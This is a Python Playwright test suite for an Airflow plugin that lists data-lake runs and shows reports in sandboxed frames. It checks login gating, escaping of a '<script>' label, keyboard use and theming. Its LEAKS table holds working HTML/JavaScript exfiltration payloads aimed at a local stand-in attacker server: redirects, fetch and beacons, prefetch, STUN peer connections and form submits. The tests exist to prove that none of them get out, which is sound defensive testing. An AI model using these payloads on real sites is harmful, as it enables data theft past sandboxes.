"""The pages in Airflow's real UI, after a run of the real DAG: what people see, follow and reach."""

import json
import re
import threading
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from socketserver import BaseRequestHandler, UDPServer
from typing import Any

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Error, FrameLocator, Page, expect

from local_emr.authentication import Endpoint
from orchard.lake.layout import Lake
from orchard.lake.storage_files import FileStorage
from orchard.report.stored import store_report
from orchard.report.write import write_report
from orchard.settings.settings import Settings
from orchard.workflow.trigger_form import params
from tests.support.airflow.report_lake import ReportLake, clusters
from tests.support.airflow.server import Airflow, ScheduledRun
from tests.support.airflow.server_with_fake_spark import running_orchard
from tests.support.polling import wait_for

HOSTILE = "<script>alert(1)"
TASKS = ("sense", "create_cluster", "featurize", "reduce", "export", "publish", "compact", "report")
SECONDS = 60_000

# Of Airflow's own: it warns of the way in which it shows the pages of every plugin.
EXPECTED = (
    "An iframe which has both allow-scripts and allow-same-origin",
    "[DOM] Input elements should have",
)


@dataclass(frozen=True)
class Shown:
    """An Airflow whose DAG has run once, and whose lake has an older run, too."""

    airflow: Airflow
    run: ScheduledRun
    lake: Path

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.airflow.port}{path}"

    @property
    def of_run(self) -> str:
        return self.url(f"/dags/orchard_features/runs/{self.run.run_id}")


@pytest.fixture(scope="module")
def shown(tmp_path_factory: pytest.TempPathFactory, node: Path, emr: Endpoint) -> Iterator[Shown]:
    folder = tmp_path_factory.mktemp("shown")
    images, lake = folder / "images" / HOSTILE, ReportLake(Lake(f"file://{folder}/lake"))
    odd = {"id": f"{HOSTILE}</script>", "release": HOSTILE}
    lake.publish("older", clusters({"apple": 20, HOSTILE: 20}), cluster=odd)
    write_report(lake.storage, lake.lake, "older")
    lake.storage.write(f"{lake.lake.run('older').csv}/features.csv", b"path,label\n")
    lake.storage.write(f"{lake.lake.uri}/models/m/card.json", b'{"id": "m"}')
    lake.storage.write(f"file://{folder}/code/install_node.sh", b"exit 0\n")
    for number in range(3):
        lake.storage.write(f"file://{images}/{number}.jpg", b"an image")
    (node / "behaviour.json").write_text(json.dumps({}))
    more = {
        "ORCHARD_IMAGES": f"file://{folder}/images",
        "ORCHARD_CODE": f"file://{folder}/code",
        "ORCHARD_LOGS": f"file://{folder}/lake/logs",
        "ORCHARD_NODE_ENV": str(node.parent),
        "ORCHARD_BOOTSTRAP_ARGS": "",
        # A trigger that fires before the scheduler has seen its task deferred costs a try, on a busy machine.
        "ORCHARD_RETRY_DELAY": "1",
    }
    with running_orchard(folder / "home", folder / "lake", folder / "images", emr, more) as airflow:
        run = ScheduledRun.trigger(airflow, "orchard_features")
        run.must_end("success")
        yield Shown(airflow, run, folder / "lake")


@pytest.fixture(scope="module")
def signed_in(browser: Browser, shown: Shown) -> Any:
    """What a browser keeps of somebody who has logged in."""
    page = browser.new_page()
    page.goto(shown.url("/"))
    passwords = shown.airflow.home / "simple_auth_manager_passwords.json.generated"
    page.locator("input[name=username]").fill("admin", timeout=SECONDS)
    page.locator("input[name=password]").fill(json.loads(passwords.read_text())["admin"])
    page.keyboard.press("Enter")
    expect(page.get_by_role("link", name="Orchard", exact=True)).to_be_visible(timeout=SECONDS)
    state = page.context.storage_state()
    page.close()
    return state


@pytest.fixture
def page(browser: Browser, shown: Shown, signed_in: Any) -> Iterator[Page]:
    """A page of that somebody; when it is left, nothing must have been complained of."""
    context = browser.new_context(
        storage_state=signed_in,
        viewport={"width": 1360, "height": 900},
        reduced_motion="reduce",
        color_scheme="null",  # Playwright's default is an emulation, which hides what a frame inherits
    )
    page = context.new_page()
    page.set_default_timeout(SECONDS)
    complaints: list[str] = []

    def listen(message: ConsoleMessage) -> None:
        # Airflow's own pages also ask for what a task may not have, and are told 404.
        is_airflows = "/api/v2/" in message.location["url"]
        if message.type in ("error", "warning") and not is_airflows and not message.text.startswith(EXPECTED):
            complaints.append(f"{message.text} {message.location['url']}")

    page.on("console", listen)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("dialog", lambda dialog: (complaints.append(dialog.message), dialog.dismiss()))
    page.goto(shown.url("/"))
    yield page
    context.close()
    assert complaints == []


@pytest.fixture
def frame(page: Page) -> FrameLocator:
    """The list of runs, in Airflow's frame."""
    page.get_by_role("link", name="Orchard", exact=True).click()
    frame = page.frame_locator("iframe[title=Orchard]")
    expect(frame.get_by_role("heading", name="Published runs")).to_be_visible(timeout=SECONDS)
    return frame


def test_somebody_who_is_not_logged_in_sees_nothing(browser: Browser, shown: Shown) -> None:
    page = browser.new_page()
    for path in ("/orchard/", "/orchard/runs/older/report.html"):
        answer = page.goto(shown.url(path))
        assert answer is not None
        assert answer.status == 401
        assert page.locator("body").inner_text() == '{"detail":"Not authenticated"}'
    page.close()


def test_the_runs_are_listed_in_airflows_navigation_newest_first_with_their_states(
    frame: FrameLocator,
) -> None:
    rows = frame.locator("tbody tr")
    expect(rows).to_have_count(2)
    expect(rows.nth(0)).to_contain_text("success")
    expect(rows.nth(0).get_by_role("link", name="logs")).to_be_visible()
    expect(rows.nth(1)).to_contain_text("older")
    expect(rows.nth(1)).to_contain_text(f"{HOSTILE}</script>")


def test_a_report_works_in_the_frame_and_is_a_document_of_no_site(page: Page, frame: FrameLocator) -> None:
    """Its label `<script>` is text there; that nothing ran is checked when the page is left."""
    frame.locator("tbody tr").nth(1).get_by_role("link", name="report").click()
    shown = frame.frame_locator("iframe[title=Report]")
    expect(shown.locator("#map")).to_have_attribute("data-drawn", "1", timeout=SECONDS)
    expect(shown.locator("bdi").get_by_text(HOSTILE, exact=True).first).to_be_visible()
    (report,) = [each for each in page.frames if each.url == "about:srcdoc"]
    assert report.evaluate("self.origin") == "null"
    with pytest.raises(Exception, match="sandboxed"):
        report.evaluate("document.cookie")
    shown.get_by_role("link", name="Labels", exact=True).click()
    wait_for(lambda: report.evaluate("scrollY") > 0, "the report to show its labels")


CONNECTED = ("connected", "packet")
"""Of a page that Airflow itself has stored no more than this gets out: nothing of what it says."""


def leak(how: str) -> str:
    """Return a page that tries to tell somebody, says so, and is still there a little later."""
    after = "setTimeout(() => document.documentElement.dataset.tried = 1, 300)"
    return f"<!doctype html><body><p id=p>No report</p><script>{after}; try {{ {how} }} catch {{}}</script>"


LEAKS = {
    "goes elsewhere": leak("location = '@'"),
    "goes elsewhere later": leak("setTimeout(() => { location = '@' })"),
    "refreshes": "<!doctype html><meta http-equiv=refresh content='0;url=@'>" + leak(""),
    "follows a link": leak("p.innerHTML = '<a id=a href=@ ping=@>x</a>'; a.click()"),
    "leads Airflow's window elsewhere": leak("top.location = '@'"),
    "leads its frame elsewhere": leak("parent.location = '@'"),
    "opens a window": leak("open('@'); p.innerHTML = '<a id=a target=_blank href=@>x</a>'; a.click()"),
    "fetches": leak("fetch('@', {mode: 'no-cors'}); navigator.sendBeacon('@', 1); new EventSource('@')"),
    "shows what is elsewhere": leak(
        "p.innerHTML = '<img src=@><iframe src=@></iframe><embed src=@><video src=@></video>"
        "<link rel=stylesheet href=@><link rel=prefetch href=@><style>p {background: url(@)}</style>'"
    ),
    "connects ahead": leak("p.innerHTML = '<link rel=preconnect href=@><link rel=dns-prefetch href=@>'"),
    "connects ahead at once": "<!doctype html><link rel=preconnect href='@'>" + leak(""),
    "asks for a peer": leak(
        "let urls = 'stun:' + new URL('@').host; let peer = new RTCPeerConnection({iceServers: [{urls}]});"
        "peer.createDataChannel('a'); peer.createOffer().then(offer => peer.setLocalDescription(offer))"
    ),
    "submits a form": leak("p.innerHTML = '<form id=f action=@><input name=a></form>'; f.submit()"),
    "has a document of its own": leak(
        "let page = new Blob(['<script>location = `@`</' + 'script>'], {type: 'text/html'});"
        "location = URL.createObjectURL(page)"
    ),
}


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server that somebody else has: its address, and who has connected to it or sent it a packet."""
    asked: list[str] = []

    class Server(ThreadingHTTPServer):
        def verify_request(self, request: Any, client_address: Any) -> bool:
            asked.append("connected")
            return super().verify_request(request, client_address)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(f"{self.command} {self.path}")
            self.send_response(204)
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *args: object) -> None:
            pass

    class Packet(BaseRequestHandler):
        def handle(self) -> None:
            asked.append("packet")

    with UDPServer(("127.0.0.1", 0), Packet) as packets, Server(packets.server_address, Handler) as server:
        for each in (packets, server):
            threading.Thread(target=each.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        for each in (packets, server):
            each.shutdown()


@pytest.mark.parametrize("how", LEAKS)
@pytest.mark.parametrize("framed", [True, False], ids=["in Airflow", "on its own"])
def test_nothing_that_is_put_in_the_place_of_a_report_gets_out(
    browser: Browser, shown: Shown, signed_in: Any, listener: tuple[str, list[str]], how: str, framed: bool
) -> None:
    address, asked = listener
    place = shown.lake / "runs" / "older" / "report.html"
    report = place.read_bytes()
    place_report(shown.lake, LEAKS[how].replace("@", address).encode())
    context = browser.new_context(storage_state=signed_in)
    try:
        page = context.new_page()
        page.goto(shown.url("/" if framed else "/orchard/runs/older/report.html"))
        if framed:
            page.get_by_role("link", name="Orchard", exact=True).click(timeout=SECONDS)
            rows = page.frame_locator("iframe[title=Orchard]").locator("tbody tr")
            rows.nth(1).get_by_role("link", name="report").click()
        url = page.url

        def has_tried() -> bool:
            page.evaluate("0")  # only while it is asked something, Playwright hears of frames
            inside = (frame for frame in page.frames if frame.parent_frame is not None)
            reports = (frame for frame in inside if frame.parent_frame.url.endswith("/report.html"))
            inner = next(reports, None)
            if inner is None:
                return False
            if inner.url not in ("", "about:srcdoc"):
                return True
            with suppress(Error):  # it is about to leave
                return bool(inner.evaluate("document.documentElement.dataset.tried"))
            return False

        wait_for(has_tried, "the page to have tried")
        assert not [each for each in asked if each not in CONNECTED]
        assert page.url == url
        assert len(context.pages) == 1
    finally:
        context.close()
        place_report(shown.lake, report)


def test_what_a_node_puts_in_the_place_of_a_report_reaches_nobody(
    browser: Browser, shown: Shown, signed_in: Any, listener: tuple[str, list[str]]
) -> None:
    """Not even by the connection that a browser opens for a page before its policy refuses it."""
    address, asked = listener
    place = shown.lake / "runs" / "older" / "report.html"
    report = place.read_bytes()
    context = browser.new_context(storage_state=signed_in)
    try:
        page = context.new_page()
        for leak in LEAKS.values():
            place.write_text(leak.replace("@", address))
            page.goto(shown.url("/orchard/runs/older/report.html"))
            expect(page.get_by_text("is not as the task 'report' wrote it")).to_be_visible()
        assert asked == []
    finally:
        context.close()
        place.write_bytes(report)


def place_report(lake: Path, page: bytes) -> None:
    """Store a page as Airflow does: should Airflow itself be made to write one, the frame keeps it."""
    store_report(FileStorage(lake), Lake(f"file://{lake}"), "older", page)


def test_two_runs_are_compared_with_the_keyboard_alone(page: Page, frame: FrameLocator) -> None:
    boxes = frame.get_by_role("checkbox")
    boxes.nth(0).focus()
    page.keyboard.press("Space")
    boxes.nth(1).focus()
    page.keyboard.press("Space")
    frame.get_by_role("button", name="Compare two").focus()
    page.keyboard.press("Enter")
    expect(frame.get_by_role("heading", name="Two runs")).to_be_visible()
    cells = frame.get_by_role("row", name=re.compile("^environment")).locator("bdi")
    expect(cells).to_have_text(["EMR emr-spark-8.1.0", f"EMR {HOSTILE}"])


def test_a_csv_is_saved(page: Page, frame: FrameLocator) -> None:
    with page.expect_download() as saving:
        frame.locator("tbody tr").nth(1).get_by_role("link", name="CSV").click()
    assert saving.value.suggested_filename == "older-features.csv"
    assert Path(saving.value.path()).read_bytes() == b"path,label\n"


def test_the_state_of_a_run_leads_out_of_the_frame_to_airflows_own_page(
    page: Page, frame: FrameLocator, shown: Shown
) -> None:
    frame.get_by_role("link", name="success").click()
    page.wait_for_url(lambda url: "/dags/orchard_features/runs/manual__" in url, timeout=SECONDS)
    expect(page.get_by_role("heading", name=shown.run.run_id)).to_be_visible(timeout=SECONDS)


def test_a_dag_run_shows_its_run_of_the_lake_and_the_logs_of_its_steps(page: Page, shown: Shown) -> None:
    page.goto(f"{shown.of_run}/plugin/orchard-run")
    frame = page.frame_locator("iframe[title=Orchard]")
    expect(frame.get_by_role("heading", name="Run of ")).to_be_visible(timeout=SECONDS)
    frame.get_by_role("link", name="logs").click()
    expect(frame.get_by_role("rowheader", name=re.compile("featurize|reduce|export")).first).to_be_visible()
    stderr = frame.get_by_role("link", name="stderr").first
    stderr.click()
    expect(frame.get_by_text("fake driver of featurize")).to_be_visible()


@pytest.mark.parametrize(
    ("task", "link"), [("publish", "Report"), ("report", "Report"), ("reduce", "Logs of the steps")]
)
def test_a_task_has_links_that_work(task: str, link: str, page: Page, shown: Shown) -> None:
    page.goto(f"{shown.of_run}/tasks/{task}/details")
    page.get_by_role("link", name=link, exact=True).click()
    heading = "Run of " if link == "Report" else "Logs of the steps"
    shown_in = page.frame_locator("iframe[title=Report]") if link == "Report" else page
    expect(shown_in.get_by_role("heading", name=heading)).to_be_visible(timeout=SECONDS)


def test_the_graph_shows_every_task_as_success(page: Page, shown: Shown) -> None:
    for key in ("default_dag_view", "dag_view-orchard_features"):
        page.evaluate("key => localStorage.setItem(key, JSON.stringify('graph'))", key)
    page.goto(shown.of_run)
    for task in (*TASKS, "terminate_cluster"):
        badge = page.get_by_test_id(f"rf__node-{task}").get_by_test_id("state-badge")
        expect(badge).to_have_text("success", timeout=SECONDS)


def test_the_form_has_every_parameter_and_what_is_written_there_is_what_the_run_gets(
    page: Page, shown: Shown
) -> None:
    page.goto(shown.url("/dags/orchard_features"))
    page.get_by_role("button", name="Trigger Dag").click()
    form = page.get_by_role("dialog")
    for name in params(
        Settings.from_env({"ORCHARD_LAKE": "s3://lake", "ORCHARD_MODEL": "s3://lake/models/m"})
    ):
        expect(form.locator(f"[name=element_{name}]")).to_have_count(1, timeout=SECONDS)
    components = form.locator("input[name=element_components]")
    components.fill("3")
    components.press("Tab")
    form.get_by_role("button", name="Trigger", exact=True).click()
    run = wait_for(lambda: other_than(shown), "another run")
    assert run["conf"]["components"] == 3
    # There is nothing new: it is skipped, and leaves the pages as they were.
    ScheduledRun(shown.airflow, "orchard_features", run["dag_run_id"]).must_end("success")


def other_than(shown: Shown) -> dict[str, Any] | None:
    runs = shown.airflow.call("GET", "/api/v2/dags/orchard_features/dagRuns")["dag_runs"]
    return next((run for run in runs if run["dag_run_id"] != shown.run.run_id), None)


def test_the_pages_are_dark_where_airflow_is(page: Page) -> None:
    grounds = []
    for theme in ("light", "dark"):
        page.evaluate(f"localStorage.setItem('theme', '{theme}')")
        page.reload()
        page.get_by_role("link", name="Orchard", exact=True).click()
        frame = page.frame_locator("iframe[title=Orchard]")
        expect(frame.get_by_role("heading", name="Published runs")).to_be_visible(timeout=SECONDS)
        grounds.append(frame.locator("body").evaluate("e => getComputedStyle(e).backgroundColor"))
    assert grounds == ["rgb(247, 247, 243)", "rgb(15, 20, 17)"]
